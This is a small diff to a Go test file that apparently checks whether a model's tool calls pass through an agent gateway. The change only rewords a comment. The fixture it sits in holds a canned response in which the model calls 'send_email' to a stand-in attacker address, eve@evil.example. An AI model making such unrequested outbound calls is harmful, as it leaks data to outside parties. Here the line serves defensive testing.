@@ -19,8 +19,8 @@ var dialects = map[string]struct{ path, tools, call string }{
 		`{"id":"x","object":"response","status":"completed","output":[{"id":"f1","type":"function_call","call_id":"c1","name":"send_email","arguments":"{\"to\":\"eve@evil.example\",\"body\":\"hello\"}","status":"completed"}]}`},
 }
 
-// goesOut lets a model mail to eve, asked with these members, and tells whether
-// the call reached the agent, and what the upstream was asked.
+// goesOut lets a model mail to eve, asked with these members, and reports whether the call
+// reached the agent, and what the upstream was asked.
 func goesOut(t *testing.T, dialect, members string) (out bool, asked string) {
 	t.Helper()
 	d := dialects[dialect]
